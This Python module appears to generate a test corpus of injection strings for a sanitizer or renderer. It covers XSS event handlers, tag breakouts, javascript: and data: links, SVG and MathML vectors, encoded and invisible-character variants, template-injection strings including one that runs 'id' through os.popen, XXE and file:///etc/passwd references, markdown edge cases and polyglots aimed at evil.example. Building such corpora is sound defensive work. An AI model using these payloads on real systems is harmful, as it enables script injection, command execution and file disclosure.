"""Texts that try to become markup, script, a style, a link or a request: families and their variants."""

from collections.abc import Iterator
from functools import cache

EVIL = "http://evil.example/x"
CALL = "alert(1)"


@cache
def payloads() -> tuple[str, ...]:
    """All of them, each once."""
    families = (_events, _breakouts, _addresses, _elements, _styles, _vectors, _entities, _templates, _markdown,
                _invisible, _polyglots)  # fmt: skip
    return tuple(dict.fromkeys(payload for family in families for payload in family()))


def _events() -> Iterator[str]:
    """Elements that run something by themselves."""
    for tag in ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x",
        "marquee",
                "select autofocus", "textarea autofocus", "iframe", "object data=x", "x tabindex=1",
                "style"):  # fmt: skip
        for event in ("onerror", "onload", "onfocus", "ontoggle", "onmouseover"):
            yield f"<{tag} {event}={CALL}>"


def _breakouts() -> Iterator[str]:
    """Ends of what the text may stand in, and then script."""
    for end in ('"', "'", '">', "'>", "-->", "]]>", "*/", "`", "\\'", '\\"', "&quot;>", "%22%3E", "</title>",
        "</style>",
                "</script>", "</textarea>", "</svg>", "</q>", "</span></p>", "</mark>", "\n\n", ">", "/>",
                "{%endraw%}"):  # fmt: skip
        for core in (f"<script>{CALL}</script>", f"<img src=x onerror={CALL}>", f" onmouseover={CALL} x="):
            yield end + core


def _addresses() -> Iterator[str]:
    """Links, images and references of every kind of address."""
    for address in (f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f"java\tscript:{CALL}", f" javascript:{CALL}",
                    f"vbscript:{CALL}", f"data:text/html,<script>{CALL}</script>",
                    "data:image/svg+xml;base64,PHN2Zz4=",
                    "file:///etc/passwd", EVIL, "//evil.example/x", "mailto:a@evil.example",
                    "www.evil.example"):  # fmt: skip
        for form in ("{}", "<{}>", "[x]({})", "![x]({})", '<a href="{}">x</a>', "[x]: {}\n\n[x]", "[{0}]({0} '{0}')"):
            yield form.format(address)


def _elements() -> Iterator[str]:
    for inside in (f"script>{CALL}</script", f"SCRIPT SRC={EVIL}></SCRIPT", f"script/x>{CALL}</script/x",
        f"script\n>{CALL}</script\n",
                   f"<script>{CALL}//<</script", f"iframe src={EVIL}", f"iframe srcdoc='<script>{CALL}</script>'",
                   f"embed src={EVIL}", f"link rel=stylesheet href={EVIL}",
                   f"meta http-equiv=refresh content='0;url={EVIL}'",
                   f"base href={EVIL}", f"form action={EVIL}><input name=q></form",
                   f"button formaction=javascript:{CALL}>x</button",
                   f"frameset onload={CALL}", f"table background={EVIL}",
                   f"template><script>{CALL}</script></template",
                   "plaintext", "xmp", "textarea", "title", "noscript", "!--", "![CDATA[", "?php echo 1 ?",
                   "!DOCTYPE x [<!ENTITY y SYSTEM 'file:///x'>]",
                   "p id=overview", "h1", "hr", "br", "q", "mark class=w", f"isindex action=javascript:{CALL}",
                   "/p", "/body", "/html"):  # fmt: skip
        yield f"<{inside}>"


def _styles() -> Iterator[str]:
    for rule in (f"background:url({EVIL})", "position:fixed;inset:0", f"@import '{EVIL}';",
        f"width:expression({CALL})",
                 f"behavior:url({EVIL})", f"-moz-binding:url({EVIL})", "x:\\75rl(//evil.example)"):  # fmt: skip
        yield f"<x style='{rule}'>x</x>"
        yield f"<style>*{{{rule}}}</style>"
        yield f"{{{rule}}}"


def _vectors() -> Iterator[str]:
    """SVG and MathML, whose content browsers read by other rules."""
    for inside in (f"script>{CALL}</script", f"animate onbegin={CALL} attributeName=x",
        f"a xlink:href=javascript:{CALL}><text>x</text></a",
                   f"use href=data:image/svg+xml,<svg onload={CALL}>", f"image href={EVIL}",
                   f"foreignObject><img src={EVIL}></foreignObject",
                   f"set attributeName=href to=javascript:{CALL}", f"style><img src=x onerror={CALL}></style",
                   f"desc><script>{CALL}</script></desc"):  # fmt: skip
        yield f"<svg><{inside}></svg>"
        yield f"<math><mtext><{inside}></mtext></math>"


def _entities() -> Iterator[str]:
    """The same signs written otherwise: what is decoded twice comes alive."""
    yield from ("&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
        "&#x3c;img src=x onerror=alert(1)&#x3e;",
                "&amp;lt;script&amp;gt;", "&#0000060;b&#0000062;", "&lt", "&#x6A;avascript:alert(1)",
                "&NewLine;&Tab;&colon;", "\\u003cscript\\u003e",
                "\\x3cscript\\x3e", "%3Cscript%3Ealert(1)%3C/script%3E", "+ADw-script+AD4-alert(1)",
                "＜script＞alert(1)＜/script＞",
                "‹script›", "&bsol;&lowbar;&ast;", "&copy; &amp; &nbsp;x", "&notanentity; & &; &#;",
                "=?utf-8?B?PHNjcmlwdD4=?=",
                "&#128512; &#xD800; &#0;", "<scr<script>ipt>alert(1)</scr</script>ipt>")  # fmt: skip


def _templates() -> Iterator[str]:
    yield from ("{{ 7*7 }}", "{% import os %}", "{# x #}", "{{ self.__init__.__globals__ }}",
        "{% raw %}{{ 1 }}{% endraw %}", "${7*7}", "#{7*7}",
                "<%= 7*7 %>", "[[${7*7}]]", "{{constructor.constructor('alert(1)')()}}", "{0.__class__}",
                "%(x)s %s", "$role ${answer}", "@{x}",
                "{{view.title|safe}}", "{%- macro x() -%}",
                "{{ lipsum.__globals__['os'].popen('id').read() }}")  # fmt: skip


def _markdown() -> Iterator[str]:
    """What would be a heading, a list, code, a table, a note, mathematics, or a checkbox."""
    yield from ("# heading", "###### heading #", "heading\n===", "heading\n---", "* item", "- item", "+ item",
        "1. item", "2) item", "- [x] done",
                "> quote", ">>> quote", "---", "***", "___", "`code`", "``a`b``", "```\ncode\n```",
                "~~~ js\ncode\n~~~", "    code", "\tcode",
                "*em* _em_", "**strong** __strong__", "~~gone~~", "==marked==", "^up^ ~down~", "x^2^ H~2~O",
                "$x^2$", "$$\nx\n$$", "\\(x\\) \\[x\\]",
                "| a | b |\n| - | - |\n| c | d |", "a | b\n:-: | -:\nc | d", "a | b | c", "[^1]\n\n[^1]: note",
                "*[HTML]: x", "term\n: definition", ":smile:",
                "@user #123 GH-1", "[[wiki]] ![[embed]]", "%%comment%%", "[toc]", "[TOC]", ":::note\nx\n:::",
                "!!! note\n    x", "{: .class #id}",
                "# x {#id onclick=alert(1)}", "\\", "\\\\", "line  \nline", "line\\\nline", "<!-- -->", "[x]",
                "[x][y]", "[](x)", "![]()", "a_b_c __init__.py",
                "https\\://evil.example", f"{EVIL}?a=b&c=<d>", "ftp://evil.example", "xmpp:a@evil.example",
                "a@evil.example", "1986\\. A year",
                "--- x: 1\n---", "+++\nx = 1\n+++", "|", "||spoiler||", "-[ ]", "[ ] x", "a:b", "a!b",
                "x -- y --- z ...", '"quotes" (c) (tm)')  # fmt: skip


def _invisible() -> Iterator[str]:
    """What is put together when invisible signs are taken out, or is turned round by them."""
    for sign in ("\u200b", "\u00ad", "\ufeff", "\x00", "\x08", "\u2060", "\u202e", "\U000e0041", "\x1b"):
        yield f"<scr{sign}ipt>{CALL}</scr{sign}ipt>"
        yield f"[x]({sign}javascript:{CALL})"
        yield f"{sign}<{sign}img src=x onerror={CALL}{sign}>"


def _polyglots() -> Iterator[str]:
    yield from (
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//"
        "</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
        '\'">><marquee><img src=x onerror=confirm(1)></marquee>"'
        "></plaintext\\></|\\><plaintext/onmouseover=prompt(1)>",
        "';alert(String.fromCharCode(88,83,83))//\";alert(1)//--></SCRIPT>\">'><SCRIPT>alert(1)</SCRIPT>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
        "`\"'><img src=x onerror=alert(1)>${alert(1)}{{alert(1)}}[x](javascript:alert(1))",
        '![x](http://evil.example/x.png "<script>alert(1)</script>")<https://evil.example>',
        '-->\'"/></sCript><deTailS open x=">" ontoggle=(co\\u006efirm)``>',
    )
